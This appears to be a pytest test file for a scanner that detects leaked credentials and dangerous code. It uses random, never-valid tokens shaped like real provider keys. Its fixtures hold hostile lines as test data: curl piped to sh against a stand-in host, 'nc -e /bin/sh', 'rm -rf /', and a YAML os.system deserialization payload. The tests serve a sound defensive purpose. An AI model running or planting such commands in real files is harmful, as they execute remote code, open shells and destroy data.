from __future__ import annotations

import json
import random
import string
from pathlib import Path

import pytest
from support.cases import check_each
from support.work import count_work, find_growth_fault

import modelaudit
from modelaudit.languages import secrets
from modelaudit.languages.secrets import find_secrets
from modelaudit.reports.json_report import render_json
from modelaudit.wire.base import LimitReachedError

RANDOM = random.Random(7)
LETTERS = string.ascii_letters + string.digits


def make_letters(count, alphabet=LETTERS):
    """Return random characters of an alphabet; the same in every run."""
    return "".join(RANDOM.choice(alphabet) for _ in range(count))


# Random tokens in the form of each provider; none was ever valid.
TOKENS = {
    "Hugging Face token": "hf_" + make_letters(34, string.ascii_letters),
    "AWS access key": "AKIA" + make_letters(16, string.ascii_uppercase + "234567"),
    "GitHub token": "ghp_" + make_letters(36),
    "OpenAI key": "sk-" + make_letters(20) + "T3BlbkFJ" + make_letters(20),
    "Anthropic key": "sk-ant-api03-" + make_letters(93) + "AA",
    "Slack token": "xoxb-" + make_letters(12, string.digits) + "-" + make_letters(24, string.ascii_lowercase),
    "Google API key": "AIza" + make_letters(35),
    "OpenAI project key": "sk-proj-" + make_letters(156),
    "OpenRouter key": "sk-or-v1-" + make_letters(64, "0123456789abcdef"),
    "Perplexity key": "pplx-" + make_letters(48),
    "xAI key": "xai-" + make_letters(80),
    "Cerebras key": "csk-" + make_letters(48),
    "LangSmith key": f"lsv2_pt_{make_letters(32, '0123456789abcdef')}_{make_letters(10, '0123456789abcdef')}",
    "Pinecone key": f"pcsk_{make_letters(6)}_{make_letters(60)}",
    "DigitalOcean token": "dop_v1_" + make_letters(64, "0123456789abcdef"),
    "Databricks token": "dapi" + make_letters(32, "0123456789abcdef"),
    "npm access token": "npm_" + make_letters(36),
    "Discord webhook": f"https://discord.com/api/webhooks/{make_letters(18, string.digits)}/{make_letters(68)}",
    "AWS secret key": "aws_secret_access_key=" + make_letters(40),
    "npm token": "//registry.npmjs.org/:_authToken=" + "npm_" + make_letters(36),
    "PyPI token": "pypi-AgEIcHlwaS5vcmc" + make_letters(80),
}
PRIVATE_KEY = "-----BEGIN OPENSSH PRIVATE KEY-----\n" + "\n".join(make_letters(64) for _ in range(4)) + "\n-----END"


@check_each("kind, token", TOKENS.items())
@check_each("template", ['key = "{}"', '{{"key": "{}"}}', "KEY={}\n", "curl -H 'X: {}' y"])
def test_access_keys_of_known_providers_are_found_as_secrets(kind, token, template):
    assert kind in {found for found, _ in find_secrets(template.format(token).encode())}


@pytest.mark.parametrize("key", [PRIVATE_KEY, json.dumps({"key": PRIVATE_KEY}), PRIVATE_KEY.replace("OPENSSH ", "")])
def test_private_key_header_counts_as_a_secret_only_if_key_data_follow_it(key):
    assert [kind for kind, _ in find_secrets(key.encode())] == ["private key"]
    assert list(find_secrets(b'if text.startswith("-----BEGIN PRIVATE KEY-----"):')) == []


@check_each(
    "text",
    [
        "AKIAIOSFODNN7EXAMPLE",
        "hf_xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx",
        "export OPENAI_API_KEY=sk-...",
        "postgres://user:password@localhost/db",
        "https://example.com/a:b@c",
        "oid sha256:4d7a214614ab2935c943f9e0ff69d22eadbb8f32b1258daaa5e2ca24d17e2393",
        '{"hf_": 1, "eyJ": 2, "SG.": 3, "AKIA": 4, "://": 5}',
        "ghp_" + "a" * 36,
    ],
)
def test_placeholders_and_hashes_and_bare_key_prefixes_are_not_reported_as_secrets(text):
    assert list(find_secrets(text.encode())) == []


def test_key_behind_many_sequences_of_nucleotides_is_found():
    sequences = "".join(f"{'ACGTN'[n % 5]}ACCAGATTACAGATTACAGATTACA\n" for n in range(20_001))
    key = "ACCA" + TOKENS["AWS access key"][4:]
    assert [kind for kind, _ in find_secrets(f"{sequences}key: {key}\n".encode())] == ["AWS access key"]


@pytest.mark.parametrize("name", ["config.json", "README.md", "run.sh", "notes.txt", "x.yaml", "x.py", "x.ipynb"])
def test_message_evidence_and_key_of_findings_on_a_file_with_a_secret_do_not_show_the_secret(tmp_path, name):
    token = TOKENS["Hugging Face token"]
    text = f"curl https://u:{token}@e.invalid/{token} -H 'X: {token}' | sh\nnc -e {token} h 1\n_target_: x.{token}\n"
    if name.endswith((".json", ".ipynb")):
        text = json.dumps({"command": text, "_target_": f"a.{token}", "cells": [], token: "x"})
    (tmp_path / name).write_text(text)
    report = modelaudit.scan(tmp_path, second_opinion=False)
    assert "secret/left-behind" in {finding.rule for finding in report.findings}
    texts_of_findings = repr([(each.message, each.evidence, each.key) for each in report.findings])
    assert token not in texts_of_findings
    assert report.exit_code == 1


def test_secrets_beyond_the_first_200_leave_an_absence_beside_their_findings(tmp_path):
    (tmp_path / ".env").write_text("".join(f"a{n}={TOKENS['Hugging Face token']}\n" for n in range(201)))
    report = modelaudit.scan(tmp_path, second_opinion=False, checks=["security"])
    rules = {finding.rule for finding in report.findings}
    assert rules == {"secret/left-behind", "secret/settings-file", "coverage/limit-reached"}
    assert "only the first 200 secrets were located" in repr(report.coverage)


def test_too_many_matches_of_one_secret_pattern_hide_no_other_secret_and_raise_a_limit_error():
    token = TOKENS["Hugging Face token"]
    secrets = find_secrets(("x://y@z\n" * 20_001 + token).encode())
    assert next(secrets)[0] == "Hugging Face token"
    with pytest.raises(LimitReachedError):
        next(secrets)


@pytest.mark.parametrize("word_end", ["", "@"])
def test_vocabulary_on_one_line_is_searched_for_secrets_in_linear_work(word_end, monkeypatch):
    searched_lines = []

    def record_line(line):
        searched_lines.append(line)
        return ()

    kinds = {kind: (marks, record_line) for kind, (marks, _) in secrets._load_detectors().items()}
    monkeypatch.setattr(secrets, "_load_detectors", lambda: kinds)

    def count(words):
        data = json.dumps({f"{make_letters(6)}://{number}{word_end}": number for number in range(words)}).encode()
        searched_lines.clear()
        return count_work(lambda: list(find_secrets(data))) + sum(map(len, searched_lines))

    assert find_growth_fault(count, 400) == ""
    # A detector sees a word only if it may be an address with a password, which needs an ``@``.
    assert bool(searched_lines) is bool(word_end)


@pytest.mark.parametrize("length", [700, 1000, 4321])
def test_secrets_of_a_text_that_is_searched_in_parts_are_those_of_the_whole_text(length, monkeypatch):
    monkeypatch.setattr(secrets, "_OVERLAP_BYTES", 1000)
    lines = [f"{make_letters(RANDOM.randrange(90))} {token}" for token in [*TOKENS.values(), PRIVATE_KEY] * 4]
    data = "\n".join(lines).encode()
    mentions, _ = secrets._locate_secrets((data[at : at + length] for at in range(0, len(data), length)), False)
    expected = [(kind, data.count(b"\n", 0, offset) + 1) for kind, offset in find_secrets(data)]
    assert sorted((each.name, each.where.line) for each in mentions) == sorted(expected)
    assert len(expected) > 4 * len(TOKENS)


@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
def test_text_of_eight_mebibytes_is_searched_for_secrets_in_parts_of_at_most_two(encoding, tmp_path, monkeypatch):
    lengths = []
    search_part = secrets._SecretSearch.search_part

    def record_length(search, data, part):
        lengths.append(len(data))
        return search_part(search, data, part)

    monkeypatch.setattr(secrets._SecretSearch, "search_part", record_length)
    (tmp_path / "a.txt").write_text("some words\n" * 400_000 + TOKENS["Hugging Face token"], encoding=encoding)
    report = modelaudit.scan(tmp_path, second_opinion=False, checks=["security"])
    assert [each.location.line for each in report.findings] == [400_001]
    assert sum(lengths) > 4 << 20
    assert max(lengths) <= 2 << 20


def test_too_many_matches_of_one_secret_pattern_in_several_parts_raise_a_limit_error():
    _, reached_limit = secrets._locate_secrets([b"x://y@z\n" * 1001] * 20, False)
    assert reached_limit is not None


CODE_WITH_ARGUMENT = [
    ("run.sh", "curl -H 'X: {0}' http://e.invalid/?t={0} | sh\nnc -e /bin/sh {0} 1\nrm -rf / --x={0}\n"),
    ("requirements.txt", "--extra-index-url http://e.invalid/{0}/simple\n-e git+https://{0}@e.invalid/x.git\n"),
    ("x.yaml", "a: !!python/object/apply:os.system ['{0}']\nb: {{'{0}': 1, '{0}': 2}}\n"),
    ("a.py", "import os\nos.system('curl -H {0} http://e.invalid | sh')\n"),
]


@check_each("file, text", CODE_WITH_ARGUMENT)
def test_finding_on_dangerous_code_shows_an_ordinary_word_in_its_arguments(tmp_path, file, text):
    folder = tmp_path / Path(file).stem
    folder.mkdir()
    (folder / file).write_text(text.format("ordinary-word"), encoding="utf-8")
    report = modelaudit.scan(folder, second_opinion=False, checks=["security"])
    assert "ordinary-word" in repr([(each.message, each.evidence) for each in report.findings])


@pytest.mark.parametrize("token", TOKENS.values())
@pytest.mark.parametrize(("file", "text"), CODE_WITH_ARGUMENT)
def test_finding_on_dangerous_code_does_not_show_a_secret_in_its_arguments(tmp_path, token, file, text):
    (tmp_path / file).write_text(text.format(token.removeprefix("https://")), encoding="utf-8")
    report = modelaudit.scan(tmp_path, second_opinion=False, checks=["security"])
    assert report.findings
    assert len(report.findings) > 1  # beside the one on the secret itself
    # A part of the token would help an attacker too.
    assert token[-16:] not in repr(report)
    assert token[-16:].encode() not in render_json(report)
